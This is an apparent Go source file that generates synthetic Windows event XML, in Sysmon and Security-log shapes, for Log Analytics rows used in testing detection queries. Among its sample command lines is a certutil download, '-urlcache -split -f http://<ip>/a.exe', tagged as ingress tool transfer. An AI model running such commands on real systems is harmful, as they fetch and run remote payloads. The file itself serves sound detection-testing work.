package synth

import (
	"fmt"
	"strings"
)

// eventXML returns the EventData text of a Windows event row as Log Analytics keeps it:
// in Event, the agent's DataItem wrapping a Sysmon-style EventData; in SecurityEvent, the
// Security log's EventData. Each row carries the fields rules read from either kind of
// event (a generic row is not one event ID), with values drawn from the row's user,
// host and addresses, so that parse_xml, mv-expand, bag_unpack and pivot run on the
// structure real rows have.
func (g *genericGen) eventXML(r genericRow) string {
	data := func(b *strings.Builder, name, value string) {
		fmt.Fprintf(b, `<Data Name="%s">%s</Data>`, name, xmlEscape(value))
	}
	procs := []string{`C:\Windows\System32\certutil.exe`, `C:\Windows\System32\rundll32.exe`,
		`C:\Windows\System32\svchost.exe`, `C:\Program Files\Microsoft\AzureAD Connect\AzureADConnect.exe`,
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\ADFS\Microsoft.IdentityServer.ServiceHost.exe`}
	image := pick(g.r, procs)
	user := strings.ToUpper(strings.Split(g.o.Domain, ".")[0]) + `\` + r.u.local
	var b strings.Builder
	b.WriteString(`<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">`)
	if g.t.Name == "SecurityEvent" {
		data(&b, "SubjectUserSid", r.u.sid)
		data(&b, "SubjectUserName", r.u.local)
		data(&b, "SubjectDomainName", strings.ToUpper(strings.Split(g.o.Domain, ".")[0]))
		data(&b, "SubjectLogonId", fmt.Sprintf("0x%x", 0x3e7+g.r.IntN(1<<20)))
		data(&b, "ObjectServer", "Security")
		data(&b, "ObjectType", pick(g.r, []string{"Key", "File", "SERVICE OBJECT"}))
		data(&b, "ObjectName", pick(g.r, []string{`\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Update`,
			`C:\ProgramData\Microsoft\Crypto\Keys\f686aace6942fb7f7ceb231212eef4a4`, `\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\HealthService`}))
		data(&b, "ObjectValueName", pick(g.r, []string{"SD", "Start", "Index"}))
		data(&b, "OperationType", pick(g.r, []string{"%%1904", "%%1905", "%%1906"}))
		data(&b, "ProcessId", fmt.Sprintf("0x%x", 100+g.r.IntN(9000)))
		data(&b, "ProcessName", image)
		data(&b, "KeyType", pick(g.r, []string{"%%2499", "%%2500"}))
		data(&b, "KeyName", pick(g.r, []string{"TSSecKeySet1", "iisCngWasKey", "Microsoft Connected Devices Platform device certificate"}))
		data(&b, "KeyFilePath", `C:\ProgramData\Microsoft\Crypto\Keys\`+newGUID(g.r))
		data(&b, "ClientProcessId", fmt.Sprint(100+g.r.IntN(9000)))
		b.WriteString(`</EventData>`)
		return b.String()
	}
	tech := pick(g.r, []string{"technique_id=T1218,technique_name=Signed Binary Proxy Execution",
		"technique_id=T1105,technique_name=Ingress Tool Transfer", "-"})
	data(&b, "RuleName", tech)
	data(&b, "UtcTime", r.at.UTC().Format("2006-01-02 15:04:05.000"))
	data(&b, "ProcessGuid", "{"+newGUID(g.r)+"}")
	data(&b, "ProcessId", fmt.Sprint(100+g.r.IntN(9000)))
	data(&b, "Image", image)
	data(&b, "CommandLine", fmt.Sprintf(`"%s" %s`, image, pick(g.r, []string{"-urlcache -split -f http://" + r.dstIP + "/a.exe", "shell32.dll,Control_RunDLL", "-k netsvcs"})))
	data(&b, "User", user)
	data(&b, "Hashes", "SHA256="+strings.ToUpper(strings.ReplaceAll(newGUID(g.r)+newGUID(g.r), "-", "")))
	data(&b, "ParentImage", `C:\Windows\explorer.exe`)
	data(&b, "EventType", pick(g.r, []string{"CreatePipe", "ConnectPipe"}))
	data(&b, "PipeName", pick(g.r, []string{`\MICROSOFT##WID\tsql\query`, `\PSHost.1`}))
	data(&b, "DestinationIp", r.dstIP)
	data(&b, "DestinationPort", fmt.Sprint(pick(g.r, []int{443, 80, 1433, 445})))
	b.WriteString(`</EventData>`)
	return fmt.Sprintf(`<DataItem type="System.XPathNavigator" time="%s" sourceHealthServiceId="%s" windowsMachineName="%s">%s</DataItem>`,
		r.at.UTC().Format("2006-01-02T15:04:05.0000000Z"), newGUID(g.r), r.host.name, b.String())
}

// xmlEscape escapes text for an XML element.
func xmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}
